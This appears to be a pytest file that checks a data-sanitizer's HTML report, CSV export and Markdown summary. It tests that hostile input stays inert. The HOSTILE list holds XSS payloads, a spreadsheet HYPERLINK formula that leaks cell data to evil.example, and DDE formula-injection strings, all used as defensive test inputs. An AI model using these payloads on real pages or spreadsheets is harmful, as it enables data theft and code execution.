"""The HTML report: evidence panels, escaping of hostile data, CSV export, Markdown summary."""

from __future__ import annotations

import csv
import io
import re
import time
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import sanitizer.checks.backdoor
import sanitizer.checks.outliers  # noqa: F401  (register the checks the tests enable)
from sanitizer import Sanitizer
from sanitizer.checks.base import CheckResult
from sanitizer.config import CheckConfig, SanitizerConfig
from sanitizer.report import ScanReport
from sanitizer.report_html import render_html, summary_markdown

TRIGGER = 1.2345
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><iframe src=//evil.example>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "right-to-left \u202eexe.txt and a NUL \x00 byte",
    "A" * 50_000,
]

#: Everything a report page may contain: no script, iframe, img, object, form, link...
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "div", "h1", "h2", "h3", "p", "ul",
    "li", "a", "dl", "dt", "dd", "table", "tr", "th", "td", "section", "details", "summary",
    "figure", "figcaption", "svg", "rect", "line", "polyline", "text", "br",
}  # fmt: skip


class _Tags(HTMLParser):
    """Collects tags, attributes and text of a page, the way a browser tokenises it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def assert_inert(page: str, *, data_has_urls: bool = False) -> _Tags:
    """The page has only harmless tags, no event handlers, no remote or script URLs."""
    parser = _Tags()
    parser.feed(page)
    parser.close()
    tags = {t for t, _ in parser.tags}
    assert tags <= ALLOWED_TAGS, tags - ALLOWED_TAGS
    for tag, attrs in parser.tags:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name not in ("src", "srcset", "action", "formaction", "xlink:href"), (tag, name)
            assert "http" not in (value or "").lower() or name == "http-equiv", (tag, name, value)
            if name == "href":
                assert value is not None and value.startswith("#check-"), value
    lowered = page.lower()
    assert "javascript:" not in lowered
    if not data_has_urls:  # nothing remote, not even as text
        assert "http" not in lowered.replace("http-equiv", "")
    assert "default-src 'none'" in page
    return parser


def poison(batch: pd.DataFrame, reference: pd.DataFrame) -> pd.DataFrame:
    """A backdoor trigger on 16 rows, six mislabelled copies of a reference record and two
    schema violations."""
    bad = batch.copy()
    rng = np.random.default_rng(0)
    rows = rng.choice(len(bad), 22, replace=False)
    bad.loc[rows[:16], "x3"] = TRIGGER
    bad.loc[rows[:16], "label"] = 1
    target = reference.iloc[3]
    for pos in rows[16:]:
        for col in ("x0", "x1", "x2", "x3", "x4", "x5", "region", "plan"):
            bad.loc[pos, col] = target[col]
        bad.loc[pos, "label"] = 1 - int(target["label"])
    bad.loc[5, "x0"] = 1e6
    bad.loc[9, "region"] = "atlantis"
    return bad


@pytest.fixture(scope="module")
def checked(reference: pd.DataFrame) -> Sanitizer:
    config = SanitizerConfig(
        label_column="label",
        id_columns=("record_id",),
        checks={"outliers": CheckConfig(), "backdoor": CheckConfig()},
    )
    return Sanitizer(config=config).fit(reference)


@pytest.fixture(scope="module")
def poisoned(clean_batch: pd.DataFrame, reference: pd.DataFrame) -> pd.DataFrame:
    return poison(clean_batch, reference)


@pytest.fixture(scope="module")
def poisoned_report(checked: Sanitizer, poisoned: pd.DataFrame) -> ScanReport:
    return checked.scan(poisoned)


def test_clean_batch_page_says_pass_and_lists_every_check(
    checked: Sanitizer, clean_batch: pd.DataFrame, reference: pd.DataFrame
) -> None:
    report = checked.scan(clean_batch)
    assert report.verdict == "pass"
    page = report.to_html(batch=clean_batch, reference=reference, sanitizer=checked)
    parsed = assert_inert(page)
    text = " ".join(parsed.text)
    assert '<div class="banner pass" id="verdict">' in page
    assert "PASS" in text and f"0 of {len(report.checks)}" in text  # checks failed
    for name in ("schema", "outliers", "backdoor"):
        assert f'<td class="k">{name}</td>' in page
    assert 'class="check' not in page  # no evidence sections when nothing failed


def test_poisoned_batch_page_shows_the_evidence(
    checked: Sanitizer,
    poisoned_report: ScanReport,
    poisoned: pd.DataFrame,
    reference: pd.DataFrame,
) -> None:
    report = poisoned_report
    failing = {c.name for c in report.failing_checks}
    assert report.verdict == "quarantine" and {"schema", "backdoor"} <= failing
    page = render_html(
        report,
        batch=poisoned,
        reference=reference,
        sanitizer=checked,
        title="Scan of b.csv",
        batch_id="b-42",
        sha256="f" * 64,
    )
    parsed = assert_inert(page)
    text = " ".join(parsed.text)
    assert "QUARANTINE" in text and "b-42" in text and "f" * 64 in text
    assert page.count('href="#check-') >= 2 * len(failing)  # banner and checks table link
    for name in failing:  # every failing check is named in the banner and has a section
        assert f"{name}: FAIL" in text
    # schema: the GX results
    assert "Failed expectations" in text and "expect_column_values_to_be_in_set" in text
    # score histograms with a threshold, distributions against the reference
    assert "distribution of row scores" in text and "dashed line: row threshold" in text
    assert "x3: reference vs batch" in text
    # backdoor: the trigger and its value-by-label table, batch vs reference
    assert "Suspected triggers" in text and "x3: labels by value, batch vs reference" in text
    assert f"= {TRIGGER}" in text and "1: 100%" in text
    # flagged rows next to their nearest reference rows
    assert f"Flagged rows ({len(report.flagged)})" in text
    assert "nearest reference row" in text
    assert page.count("<svg") >= 4


def test_page_without_data_still_renders(poisoned_report: ScanReport) -> None:
    page = poisoned_report.to_html(title="only the report")
    parsed = assert_inert(page)
    text = " ".join(parsed.text)
    assert "QUARANTINE" in text and "distribution of row scores" in text
    assert "nearest reference row" not in text  # needs the reference


def test_hostile_cells_and_column_names_render_as_text(
    reference: pd.DataFrame, clean_batch: pd.DataFrame
) -> None:
    evil_col = '<img src=x onerror=alert("col")>'
    ref = reference.rename(columns={"plan": evil_col})
    batch = clean_batch.rename(columns={"plan": evil_col}).astype({"region": object})
    for i, value in enumerate(HOSTILE):
        batch.loc[i, "region"] = value
        batch.loc[i + 20, evil_col] = value
    fitted = Sanitizer(label_column="label", id_columns=("record_id",)).fit(ref)
    report = fitted.scan(batch)
    assert report.verdict == "quarantine"
    page = report.to_html(title=HOSTILE[0], batch=batch, reference=ref, sanitizer=fitted)
    parsed = assert_inert(page, data_has_urls=True)
    text = "".join(parsed.text)
    assert evil_col in text and HOSTILE[0] in text  # shown, as text
    assert "A" * 1000 not in page and "(+49" in text  # long values are shortened
    assert "\u202e" not in page and "\x00" not in page and "\\u202e" in text
    assert len(page) < 400_000

    rows = list(csv.reader(io.StringIO(report.flagged_csv())))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["row", "score", "reasons"] and evil_col in header
    assert len(body) == len(report.flagged)
    cells = [c for r in body for c in r[3:]] + header
    assert cells and all(not c.startswith(("=", "+", "@", "-")) or _number(c) for c in cells)
    assert "'" + HOSTILE[3] in cells and "'" + HOSTILE[4] in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_keeps_negative_numbers_and_neutralises_text(poisoned_report: ScanReport) -> None:
    rows = list(csv.DictReader(io.StringIO(poisoned_report.flagged_csv())))
    assert len(rows) == len(poisoned_report.flagged)
    assert any(float(r["x1"]) < 0 for r in rows)  # numbers are not prefixed
    assert all(r["reasons"] for r in rows)
    frame = pd.DataFrame({"delta": np.array([-3, 4], dtype=np.int64), "note": ["-3", "=1+1"]})
    report = ScanReport(
        verdict="quarantine",
        checks=[],
        row_scores=pd.Series([1.0, 1.0]),
        flagged=frame.assign(reasons=[("a",), ("b",)]),
        clean_rows=pd.Series([False, False]),
    )
    lines = report.flagged_csv().splitlines()
    assert lines == ["row,score,reasons,delta,note", "0,1.0,a,-3,'-3", "1,1.0,b,4,'=1+1"]


def synthetic_report(
    n: int, *, seed: int = 0, hostile: str = ""
) -> tuple[ScanReport, pd.DataFrame]:
    """A report built by hand with the evidence keys the checks use, some malformed."""
    rng = np.random.default_rng(seed)
    batch = pd.DataFrame(
        {
            "record_id": np.arange(n),
            "x0": rng.normal(size=n),
            "x1": rng.normal(size=n),
            "colour": rng.choice(["red", "green", hostile or "blue"], size=n),
            "label": rng.integers(0, 2, size=n),
        }
    )
    scores = rng.random(n) ** 8
    flags = scores > 0.9
    reasons = {int(p): (f"drift: odd {hostile}",) for p in np.flatnonzero(flags)}
    checks = [
        CheckResult(
            "drift", "warn", f"drift in x0 {hostile}", 2.0, 0.001, 0.01, severity="warn",
            info={"drifted": ["x0", "colour", "no such column", None], "domain_auc": 0.7,
                  "tests": {"x0": {"statistic": 0.2, "p_value": 0.001}, "x1": "malformed"}},
        ),
        CheckResult(
            "label_consistency", "fail", "labels", 0.2, 1e-5, 0.01, scores, flags, reasons,
            info={"reference_rate": 0.01, "row_threshold": 0.9, "class_thresholds": {"0": 0.5}},
        ),
        CheckResult(
            "duplicates", "fail", "copies", 0.1, 1e-9, 0.01, scores, flags,
            info={"rows_with_batch_twin": 3, "findings": "not a list of findings"},
        ),
        CheckResult(
            "backdoor", "fail", "trigger", 1.0, 1e-6, 0.01, scores, flags,
            info={"findings": [{"feature": "x1", "cell": "== 0.5", "rows": 9, "label": "1"},
                               "garbage", {"feature": None}]},
        ),
        CheckResult(
            "conditional_drift", "error", "check raised ValueError: boom",
            info={"batch_prior": [0.4, 0.6], "reference_prior": [0.5, 0.5], "seconds": 0.1},
        ),
        CheckResult("impact", "fail", "no info at all"),
    ]  # fmt: skip
    flagged = batch.iloc[np.flatnonzero(flags)].copy()
    flagged["reasons"] = [reasons[int(p)] for p in np.flatnonzero(flags)]
    report = ScanReport(
        verdict="quarantine",
        checks=checks,
        row_scores=pd.Series(scores, index=batch.index),
        flagged=flagged,
        clean_rows=pd.Series(np.zeros(n, dtype=bool), index=batch.index),
        dataset=hostile or "synthetic",
    )
    return report, batch


def test_renderer_is_generic_and_robust_to_missing_or_malformed_evidence() -> None:
    report, batch = synthetic_report(2_000)
    reference = synthetic_report(3_000, seed=1)[1]
    for kwargs in ({}, {"batch": batch}, {"batch": batch, "reference": reference}):
        page = render_html(report, label_column="label", **kwargs)  # type: ignore[arg-type]
        text = " ".join(assert_inert(page).text)
        assert "conditional_drift: ERROR" in text and "impact: FAIL" in text
        assert "Share of rows with an implausible label" in text
        assert "Label prior" in text
    assert "x0: reference vs batch" in text and "colour: share of rows per value" in text
    assert "x1: labels by value, batch vs reference" in text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(min_size=1, max_size=300))
def test_any_text_in_the_data_stays_text(value: str) -> None:
    report, batch = synthetic_report(60, hostile=value)
    page = render_html(report, batch=batch, title=value, batch_id=value, source=value)
    assert_inert(page, data_has_urls=True)
    summary = summary_markdown(report, "https://reports.example/r.html", batch_id=value)
    assert len(re.findall(r"(?<!\\)\]\(", summary)) == 1  # only the report link is a link
    assert not re.search(r"(?<!\\)[<>]", summary)  # no raw HTML / Slack <url|text> syntax


def test_summary_markdown_for_alerts(poisoned_report: ScanReport) -> None:
    text = summary_markdown(poisoned_report, "s3://bucket/quarantine/b-42/report.html")
    lines = text.splitlines()
    assert lines[0].startswith("**QUARANTINE**: dataset `default`: 400 rows")
    assert any(line.startswith("- FAIL backdoor") for line in lines)
    assert lines[-1] == "[Open the full report](s3://bucket/quarantine/b-42/report.html)"
    hostile = CheckResult("schema", "fail", "[click](http://evil) <b>x</b> `code`")
    forged = summary_markdown(
        ScanReport(
            verdict="quarantine",
            checks=[hostile],
            row_scores=pd.Series([0.0]),
            flagged=pd.DataFrame({"reasons": []}),
            clean_rows=pd.Series([False]),
        )
    )
    assert not re.search(r"(?<!\\)\]\(", forged) and "\\[click\\]" in forged
    assert not re.search(r"(?<!\\)[<>]", forged)


def test_rendering_a_100k_row_batch_is_fast() -> None:
    """Rendering cost is linear and small next to a scan (see the report for numbers)."""
    report, batch = synthetic_report(100_000)
    reference = synthetic_report(100_000, seed=1)[1]
    started = time.perf_counter()
    page = render_html(report, batch=batch, reference=reference)
    elapsed = time.perf_counter() - started
    assert elapsed < 10.0, elapsed  # about 1 s on the 2-core CI machine
    assert len(page) < 1_000_000


def test_unusual_inputs_degrade_to_notes_not_errors(caplog: pytest.LogCaptureFixture) -> None:
    report, batch = synthetic_report(300)
    odd = CheckResult(
        "schema", "fail", "odd evidence", info={"failed_expectations": [{"unexpected_rows": 5}]}
    )
    shifted = batch.set_axis([i // 2 for i in range(len(batch))])  # duplicate index labels
    report = ScanReport(
        verdict="quarantine",
        checks=[odd, *report.checks],
        row_scores=report.row_scores.set_axis(shifted.index),
        flagged=report.flagged.drop(columns=["reasons"]).set_axis(
            [i // 2 for i in report.flagged.index]
        ),
        clean_rows=report.clean_rows.set_axis(shifted.index),
    )
    page = render_html(report, batch=batch.iloc[:10], label_column="label")  # wrong length
    text = " ".join(assert_inert(page).text)
    assert "This part of the report could not be drawn (TypeError" in text
    assert "impact: FAIL" in text and f"Flagged rows ({len(report.flagged)})" in text
    assert "batch has 10 rows, the report 300" in caplog.text
